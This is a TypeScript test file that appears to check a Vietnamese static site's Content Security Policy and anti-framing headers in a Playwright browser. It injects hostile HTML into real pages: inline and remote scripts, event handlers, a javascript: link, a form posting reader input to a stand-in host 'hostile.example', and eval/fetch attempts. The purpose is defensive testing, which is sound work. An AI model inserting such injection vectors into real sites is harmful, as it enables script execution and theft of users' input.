import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { readNetlify } from '../reliability/host-files-readers.ts';
import { launchBrowser } from './browser.ts';
import { onePageOfEachKind } from './site-pages.ts';

const siteAddress = inject('siteAddress');
const folder = inject('builtSite');
// English pages have the layouts of the Vietnamese ones.
const kinds = onePageOfEachKind(folder).filter((address) => !/^en\/./.test(address));

/** What the browser says that it blocked, and whether hostile code ran. */
interface Watched {
  blocked: string[];
  ran: string[];
}
declare global {
  interface Window {
    blocked: string[];
    ran: string[];
  }
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** A tab that keeps the browser's own reports of violations, which no policy can silence. */
async function watchedTab(): Promise<{ page: Page; elsewhere: string[] }> {
  const page = await browser.newPage();
  const elsewhere: string[] = [];
  await page.addInitScript(() => {
    window.blocked = [];
    window.ran = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.blocked.push(event.effectiveDirective);
    });
  });
  await page.route('https://hostile.example/**', (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.ran.push("outside")' });
  });
  return { page, elsewhere };
}

function report(page: Page): Promise<Watched> {
  return page.evaluate(() => ({ blocked: window.blocked, ran: window.ran }));
}

/** Opens a real page of the site with something hostile in it, as if a hole in our own code had let it in. */
async function openHostile(
  address: string,
  insert: { head?: string; body?: string },
  files: Readonly<Record<string, string>> = {},
): Promise<Watched & { elsewhere: string[]; page: Page }> {
  const { page, elsewhere } = await watchedTab();
  const html = readFileSync(path.join(folder, address, 'index.html'), 'utf8')
    .replace('</head>', () => `${insert.head ?? ''}</head>`)
    .replace('</body>', () => `${insert.body ?? ''}</body>`);
  await page.route(siteAddress + address, (route) =>
    route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html }),
  );
  for (const [name, body] of Object.entries(files))
    await page.route(siteAddress + name, (route) =>
      route.fulfill({ status: 200, contentType: 'text/javascript', body }),
    );
  await page.goto(siteAddress + address, { waitUntil: 'load' });
  await page.waitForFunction(() => document.readyState === 'complete');
  return { ...(await report(page)), elsewhere, page };
}

const article = kinds.find((address) => /^chuong-trinh\/[^/]+\/$/.test(address)) ?? 'chuong-trinh/';

describe('every kind of page lives under its policy', () => {
  // One tab goes from page to page: a new one for each took most of the time.
  let page: Page;
  let elsewhere: string[];
  const complaints: string[] = [];
  beforeAll(async () => {
    ({ page, elsewhere } = await watchedTab());
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) complaints.push(message.text());
    });
  });
  afterAll(() => page.close());

  test.each(kinds)('/%s', async (address) => {
    complaints.length = 0;
    elsewhere.length = 0;
    await page.goto(siteAddress + address, { waitUntil: 'load' });
    expect((await report(page)).blocked).toEqual([]);
    expect(complaints).toEqual([]);
    expect(elsewhere).toEqual([]);
    // The styles took hold: without them the text would have the browser's own font.
    expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily)).toContain('IBM Plex Sans');
  });

  test('the search answers under it', async () => {
    await page.goto(`${siteAddress}tim-kiem/?q=hop+tac+xa`);
    await page.waitForSelector('[data-search-results] li');
    expect((await report(page)).blocked).toEqual([]);
  });
});

describe('a hole in a page lets nothing through', () => {
  const own = `${siteAddress}tep/xau.js`;
  test.each<[string, { head?: string; body?: string }, string]>([
    ['inline script', { body: '<script>window.ran.push("inline")</script>' }, 'script-src-elem'],
    [
      'script of another host',
      { body: '<script src="https://hostile.example/a.js"></script>' },
      'script-src-elem',
    ],
    ['script from the own folder of files', { body: `<script src="${own}"></script>` }, 'script-src-elem'],
    [
      'script as data',
      { body: '<script src="data:text/javascript,window.ran.push(1)"></script>' },
      'script-src-elem',
    ],
    ['event handler', { body: '<img src="/dau.svg" alt="" onload="window.ran.push(1)">' }, 'script-src-attr'],
    ['event handler of a drawing', { body: '<svg onload="window.ran.push(1)"></svg>' }, 'script-src-attr'],
    ['style attribute', { body: '<p id="s" style="position:fixed">x</p>' }, 'style-src-attr'],
    ['style element', { head: '<style>body{display:none}</style>' }, 'style-src-elem'],
    [
      'style sheet of another host',
      { head: '<link rel="stylesheet" href="https://hostile.example/a.css">' },
      'style-src-elem',
    ],
    ['image of another host', { body: '<img src="https://hostile.example/a.gif" alt="">' }, 'img-src'],
    [
      'frame of another host',
      { body: '<iframe title="x" src="https://hostile.example/"></iframe>' },
      'frame-src',
    ],
    ['object', { body: '<object data="https://hostile.example/a.swf"></object>' }, 'object-src'],
    ['base address', { head: '<base href="https://hostile.example/">' }, 'base-uri'],
    [
      'manifest of another host',
      { head: '<link rel="manifest" href="https://hostile.example/m.json">' },
      'manifest-src',
    ],
  ])('%s', async (name, insert, directive) => {
    const { page, ran, blocked, elsewhere } = await openHostile(article, insert, {
      'tep/xau.js': 'window.ran.push("own")',
    });
    expect(ran).toEqual([]);
    expect(elsewhere).toEqual([]);
    // Chromium fetches a manifest only in a window with a visible bar, so there is no report to wait for.
    if (name !== 'manifest of another host') expect(blocked).toContain(directive);
    await page.close();
  });

  test('a link with javascript: does nothing', async () => {
    const { page } = await openHostile(article, {
      body: '<a id="hostile" href="javascript:window.ran.push(1)">x</a>',
    });
    await page.evaluate(() => document.querySelector<HTMLElement>('#hostile')?.click());
    await page.waitForFunction(() => window.blocked.includes('script-src-elem'));
    expect((await report(page)).ran).toEqual([]);
    await page.close();
  });

  test('a form cannot send what a reader typed to another host', async () => {
    const { page, elsewhere } = await openHostile(article, {
      body: '<form id="hostile" action="https://hostile.example/" method="post"><input name="a" value="b"></form>',
    });
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#hostile')?.submit());
    await page.waitForFunction(() => window.blocked.includes('form-action'));
    expect(elsewhere).toEqual([]);
    await page.close();
  });

  test('a later, looser policy in the page does not loosen the first', async () => {
    const { page, ran } = await openHostile(article, {
      head: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
      body: '<script>window.ran.push("inline")</script>',
    });
    expect(ran).toEqual([]);
    await page.close();
  });

  test('the search page runs WebAssembly, but evaluates no text and asks no other host', async () => {
    const { page, ran, elsewhere } = await openHostile(
      'tim-kiem/',
      { body: `<script src="${own}"></script>` },
      {
        'tep/xau.js': `
          const attempt = (name, run) => { try { run(); window.ran.push(name); } catch { /* blocked */ } };
          attempt('eval', () => eval('1'));
          attempt('function', () => new Function('return 1')());
          attempt('wasm', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
          fetch('https://hostile.example/').then(() => window.ran.push('fetch'), () => undefined);
          try { new Worker('data:text/javascript,1'); } catch { /* blocked */ }
        `,
      },
    );
    await page.waitForFunction(() => window.blocked.includes('connect-src'));
    expect((await report(page)).ran).toEqual(['wasm']);
    expect(ran).toEqual(['wasm']);
    expect(elsewhere).toEqual([]);
    await page.close();
  });
});

describe('framing, which only headers can forbid', () => {
  /** A host that sends what `_headers` says, and a hostile one, of another origin, that frames its pages. */
  async function framed(address: string, withHeaders: boolean): Promise<boolean> {
    const headers = readFileSync(path.join(folder, '_headers'), 'utf8');
    const site = await serve((asked) => ({
      headers: withHeaders ? Object.fromEntries(readNetlify(headers, asked)) : {},
      body: '<!doctype html><title>x</title><p id="shown">shown</p>',
    }));
    const hostile = await serve(() => ({
      headers: {},
      body: `<!doctype html><title>x</title><iframe title="x" src="${site.origin}${address}"></iframe>`,
    }));
    const page = await browser.newPage();
    try {
      await page.goto(hostile.origin, { waitUntil: 'load' });
      const frame = page.frames().find((each) => each !== page.mainFrame());
      return ((await frame?.locator('#shown').count()) ?? 0) > 0;
    } finally {
      await page.close();
      site.close();
      hostile.close();
    }
  }

  test('with them: no page of the site', async () => {
    expect(await framed(`/${article}`, true)).toBe(false);
    expect(await framed('/', true)).toBe(false);
  });

  test('with them: the cards for other sites, and only those', async () => {
    expect(await framed('/nhung/chuong-trinh/x/', true)).toBe(true);
    expect(await framed('/en/nhung/chuong-trinh/x/', true)).toBe(true);
  });

  test('without them a page can be framed: the deploy pages say so', async () => {
    expect(await framed(`/${article}`, false)).toBe(true);
  });
});

/** A host of its own on this machine that answers every address. */
async function serve(
  answer: (asked: string) => { headers: Record<string, string>; body: string },
): Promise<{ origin: string; close(): void }> {
  const server = createServer((request, response) => {
    const { headers, body } = answer(request.url ?? '/');
    response.writeHead(200, { ...headers, 'content-type': 'text/html; charset=utf-8' }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}
